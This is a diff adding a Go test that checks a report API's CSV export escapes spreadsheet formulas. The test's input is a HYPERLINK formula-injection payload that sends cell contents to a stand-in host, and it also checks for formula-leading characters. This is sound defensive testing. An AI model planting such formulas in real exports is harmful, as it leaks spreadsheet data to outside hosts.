@@ -633,3 +633,47 @@ func TestNarrativeAndSubmitLifecycle(t *testing.T) {
 		t.Fatalf("%d narrative writes audited, want 4", n)
 	}
 }
+
+// TestCSVNarrativeIsNotAFormula checks that a narrative written as a
+// spreadsheet formula reaches the CSV export as text (prefixed with '),
+// while the figures stay numbers.
+func TestCSVNarrativeIsNotAFormula(t *testing.T) {
+	env := apitest.New(t)
+	reportFixture(t, env)
+	sup := env.Token(supervisor)
+	base := "/api/v1/reports/half-year/2025/1"
+	formula := `=HYPERLINK("http://example.invalid/?"&A1,"open")`
+	if r := env.Do(apitest.Request{Method: http.MethodPut, Path: base + "/narratives/3.1", Token: sup,
+		Body: map[string]string{"text": formula}}); r.Status != http.StatusOK {
+		t.Fatalf("PUT narrative: %d %s", r.Status, r.Body)
+	}
+	r := env.Do(apitest.Request{Method: http.MethodGet, Path: base + "?format=csv", Token: sup})
+	if r.Status != http.StatusOK {
+		t.Fatalf("csv: %d", r.Status)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\xEF\xBB\xBF")))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	col := map[string]int{}
+	for i, h := range recs[0] {
+		col[h] = i
+	}
+	numbers := 0
+	for _, rec := range recs[1:] {
+		if rec[col["code"]] == "3.1" && rec[col["narrative"]] != "'"+formula {
+			t.Fatalf("narrative cell %q, want the formula prefixed with '", rec[col["narrative"]])
+		}
+		for _, cell := range rec {
+			if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "@") {
+				t.Fatalf("cell %q would run as a formula", cell)
+			}
+			if _, err := strconv.ParseFloat(cell, 64); err == nil {
+				numbers++
+			}
+		}
+	}
+	if numbers == 0 {
+		t.Fatal("no figure was written as a number")
+	}
+}
